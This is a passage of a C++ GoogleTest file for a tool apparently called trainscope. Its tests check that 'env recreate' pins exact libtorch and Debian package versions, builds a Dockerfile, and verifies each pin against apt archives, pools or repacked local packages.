    EXPECT_EQ(occurrences(r.out, "pass (repacked)"), 0u) << r.out;
    EXPECT_FALSE(std::filesystem::exists(dir_ / "norepack" / "debs"));
  }

  // Run by root, the test also runs --check as nobody (setpriv): not root,
  // dpkg-repack runs under fakeroot -u, and every pin still passes; the
  // files it rebuilds hold the installed files with their real owners
  // (root), as dpkg-deb lists them.
  void expect_repacked_by_another_user(const std::vector<std::string>& repacked) {
    ASSERT_EQ(run_command("chmod -R a+rwX " + shell_quote(dir_.path().string())).exit_code, 0);
    const auto out = dir_ / "nobody";
    auto r =
        run_command("setpriv --reuid=65534 --regid=65534 --clear-groups env HOME=" +
                    shell_quote(dir_.path().string()) + " " +
                    command("env recreate tiny --out " + shell_quote(out.string()) + " --check"));
    EXPECT_EQ(r.exit_code, 0) << r.out;
    EXPECT_EQ(occurrences(r.out, "pass (repacked)"), repacked.size()) << r.out;
    for (const auto& pin : repacked) {
      const std::string name = pin.substr(0, pin.find('='));
      auto deb =
          run_command("ls " + shell_quote((out / "debs").string()) + " | grep '^" + name + "_'");
      ASSERT_EQ(deb.exit_code, 0) << pin << ": " << deb.out;
      const auto file = out / "debs" / trim(deb.out);
      EXPECT_EQ(run_command("stat -c %U " + shell_quote(file.string())).out, "nobody\n");
      auto list = run_command("dpkg-deb -c " + shell_quote(file.string()));
      EXPECT_EQ(list.exit_code, 0) << list.out;
      EXPECT_NE(list.out.find(" root/root "), std::string::npos) << list.out;
      EXPECT_EQ(list.out.find(" nobody/"), std::string::npos) << list.out;
    }
  }

  TempDir dir_;
};

// Issue 34: `env recreate` of a demo run names the exact libtorch and BLAS
// package versions, and its install commands pass apt-get install --simulate;
// a version apt's index no longer lists comes from the archive's pool.
// Issue 46: libtorch is the torch wheel's, pinned with its index.
TEST_F(RecreateCliTest, ADemoRunPinsTheExactLibtorchAndBlasAndEachVerdictMatchesTheArchive) {
  std::ofstream(dir_ / "c.yaml") << "compute: {threads: 1}\n"
                                    "data: {dataset: synthetic, synthetic: {size: 256}}\n"
                                    "model: {name: demo_cnn}\n"
                                    "train: {epochs: 1, batch_size: 64}\n";
  auto t = ts("-q train " + shell_quote((dir_ / "c.yaml").string()) + " --name tiny --no-progress");
  ASSERT_EQ(t.exit_code, 0) << t.out;
  const auto out = dir_ / "out";
  const auto json_file = dir_ / "recreate.json";
  // stdout (the JSON) into a file, stderr (the verdict) into r.out.
  auto r = run_command(
      "{ " + command("env recreate tiny --out " + shell_quote(out.string()) + " --check --json") +
      " > " + shell_quote(json_file.string()) + "; }");
  const auto j = nlohmann::json::parse(read(json_file));
  const std::string docker = read(out / "Dockerfile");
  // The torch the torch half links is a wheel: its pin is the version its
  // dist-info records (read here by the test), from PyPI's index, installed
  // into the image's /opt/venv, which trainscope's build then uses; no Debian
  // package holds libtorch. The C++ runtime it maps is a Debian package,
  // pinned at the version dpkg-query gives.
  const std::string torch_pin = "torch==" + wheel_version(linked_file("libtorch_cpu"));
  EXPECT_EQ(j.at("torch").at("requirement"), torch_pin) << j.at("torch").dump();
  EXPECT_EQ(j.at("torch").at("index"), "https://pypi.org/simple");
  EXPECT_TRUE(j.at("torch").at("check").at("ok").get<bool>()) << j.at("torch").dump();
  EXPECT_NE(docker.find("--index-url 'https://pypi.org/simple' '" + torch_pin + "'\n"),
            std::string::npos)
      << docker;
  EXPECT_EQ(j.at("libtorch"), nlohmann::json::array());
  const Owned cxx = dpkg_owner(linked_file("libstdc"));
  EXPECT_NE(docker.find("      " + cxx.package + "=" + cxx.version + " \\\n"), std::string::npos)
      << docker;
  // The wheels' BLAS is MKL inside libtorch_cpu: no library of it is mapped.
  EXPECT_EQ(j.at("blas"), nlohmann::json::array());
  EXPECT_NE(docker.find("debian:" + os_release("VERSION_CODENAME") + "\n"), std::string::npos)
      << docker;
  // Every verdict agrees with the versions apt-cache madison finds in the
  // archives (not in this machine's status); libtorch and the BLAS pass.
  std::string names;
  for (const auto& p : j.at("packages")) names += " " + p.at("name").get<std::string>();
  auto madison = run_command("apt-cache madison" + names);
  ASSERT_EQ(madison.exit_code, 0) << madison.out;
  std::set<std::string> archived;  // "name=version", from "name | version | source"
  std::istringstream lines(madison.out);
  for (std::string line; std::getline(lines, line);) {
    std::istringstream fields(line);
    std::string name, bar, version;
    if (fields >> name >> bar >> version && bar == "|") archived.insert(name + "=" + version);
  }
  ASSERT_GT(j.at("packages").size(), 2u);
  // Each verdict agrees with the archive: a version madison lists installs
  // from apt's index; another installs from the archive's pool exactly when
  // the test finds its file there itself (in the folder of a version apt
  // lists, on that version's archive), as the file --check fetched into the
  // cache, ADDed by the Dockerfile instead of pinned; any other is repacked
  // from this machine, where the run was trained, so it is installed here at
  // that version: its .deb is in the cache and in the Dockerfile's debs/,
  // COPYed. Every pin passes, whatever the archive still serves.
  ASSERT_FALSE(reachable_archives().empty());
  std::vector<std::string> from_pool, repacked;
  for (const auto& p : j.at("packages")) {
    const std::string name = p.at("name"), version = p.at("version"), pin = p.at("pin");
    const std::string url = p.at("pool_url"), source = p.at("check").at("source");
    const std::string arch = p.at("arch"), repacked_file = p.at("repacked_file");
    EXPECT_TRUE(p.at("check").at("ok").get<bool>()) << p.dump();
    if (archived.count(name + "=" + version)) {
      EXPECT_EQ(source, "index") << p.dump();
      EXPECT_EQ(url, "") << p.dump();
      EXPECT_EQ(repacked_file, "") << p.dump();
      continue;
    }
    const std::string file =
        name + "_" + version.substr(version.find(':') + 1) + "_" + arch + ".deb";
    EXPECT_EQ(docker.find("      " + pin + " \\\n"), std::string::npos) << docker;
    EXPECT_NE(docker.find("      /tmp/trainscope-debs/" + file + " \\\n"), std::string::npos)
        << docker;
    if (!in_a_pool(name, file)) {
      repacked.push_back(pin);
      expect_repacked(p, file, docker);
      continue;
    }
    from_pool.push_back(pin);
    EXPECT_EQ(source, url) << p.dump();
    ASSERT_EQ(url.rfind("http", 0), 0u) << p.dump();
    EXPECT_NE(docker.find(" " + url + " /tmp/trainscope-debs/" + file + "\n"), std::string::npos)
        << p.dump() << "\n"
        << docker;
    auto fields =
        run_command("dpkg-deb -f " + shell_quote((dir_ / "cache/trainscope/debs" / file).string()) +
                    " Package Version");
    EXPECT_EQ(fields.out, "Package: " + name + "\nVersion: " + version + "\n") << p.dump();
    EXPECT_NE(r.out.find(url), std::string::npos) << r.out;  // the progress line
  }
  EXPECT_EQ(r.exit_code, 0) << r.out;
  std::cout << from_pool.size() << " of " << j.at("packages").size()
            << " pins are served from the archive's pool here, " << repacked.size()
            << " repacked from this machine\n";
  // And apt, run by the test, installs exactly this version on a machine
  // with nothing installed.
  std::ofstream(dir_ / "empty-status").close();
  auto apt = run_command(
      "LC_ALL=C apt-get install --simulate --no-install-recommends -o "
      "Dir::State::status=" +
      shell_quote((dir_ / "empty-status").string()) + " " + cxx.package + "=" + cxx.version);
  ASSERT_EQ(apt.exit_code, 0) << apt.out;
  EXPECT_NE(apt.out.find("Inst " + cxx.package + " (" + cxx.version + " "), std::string::npos)
      << apt.out;
  // Without --check: the table and the libtorch line; no ADD, no COPY, no
  // debs/: the pools are searched and pins repacked only with --check.
  auto text = ts("env recreate tiny --out " + shell_quote((dir_ / "offline").string()));
  ASSERT_EQ(text.exit_code, 0) << text.out;
  EXPECT_NE(text.out.find("libtorch: " + torch_pin + " from https://pypi.org/simple"),
            std::string::npos)
      << text.out;
  const std::string offline = read(dir_ / "offline" / "Dockerfile");
  EXPECT_EQ(offline.find("\nADD "), std::string::npos) << offline;
  EXPECT_EQ(offline.find("\nCOPY "), std::string::npos) << offline;
  EXPECT_FALSE(std::filesystem::exists(dir_ / "offline" / "debs"));
  // --check again as text: the pool files come from the cache, each pool pin
  // says where it is from, each repacked pin says what it is, and the summary
  // counts them.
  auto again = ts("env recreate tiny --out " + shell_quote(out.string()) + " --check");
  EXPECT_EQ(again.exit_code, 0) << again.out;
  EXPECT_NE(again.out.find(torch_pin + " from https://pypi.org/simple: pass (the index serves it)"),
            std::string::npos)
      << again.out;
  for (const auto& pin : from_pool) {
    EXPECT_NE(again.out.find(pin + ": from the pool, http"), std::string::npos) << again.out;
  }
  if (!from_pool.empty()) {
    EXPECT_NE(again.out.find(": in the cache"), std::string::npos) << again.out;
    EXPECT_EQ(again.out.find("fetching http"), std::string::npos) << again.out;
  }
  for (const auto& pin : repacked) {
    const std::string version = pin.substr(pin.find('=') + 1);
    EXPECT_NE(again.out.find(pin +
                             ": repacked from this machine's installed files (dpkg-repack): no "
                             "archive serves version " +
                             version + " any more; its conffiles are this machine's (debs/"),
              std::string::npos)
        << again.out;
  }
  const size_t n = j.at("packages").size();
  EXPECT_EQ(occurrences(again.out, "pass (repacked)"), repacked.size()) << again.out;
  EXPECT_NE(again.out.find(fmt::format(
                "check: {} of {} pinned versions install on a machine with nothing installed: {} "
                "from apt's index, {} from the archives' pools (ADDed in the Dockerfile), {} "
                "repacked from this machine (COPYed from debs/), 0 not",
                n, n, n - from_pool.size() - repacked.size(), from_pool.size(), repacked.size())),
            std::string::npos)
      << again.out;
  expect_without_dpkg_repack(repacked);
  if (geteuid() == 0) expect_repacked_by_another_user(repacked);
}

// A run whose manifest has no package data (here a `watch` run, whose
// program trainscope never loads) gets one line saying so, exit code 3.
TEST_F(RecreateCliTest, ARunWithoutPackageDataIsOneLine) {
  ASSERT_EQ(ts("-q watch --name w -- true").exit_code, 0);
  auto r = ts("env recreate w --out " + shell_quote((dir_ / "o").string()));
  EXPECT_EQ(r.exit_code, 3) << r.out;
  EXPECT_EQ(std::count(r.out.begin(), r.out.end(), '\n'), 1) << r.out;
  EXPECT_NE(r.out.find("cannot be recreated"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("recorded before"), std::string::npos) << r.out;
  EXPECT_FALSE(std::filesystem::exists(dir_ / "o" / "Dockerfile"));
}

}  // namespace
}  // namespace trainscope::env
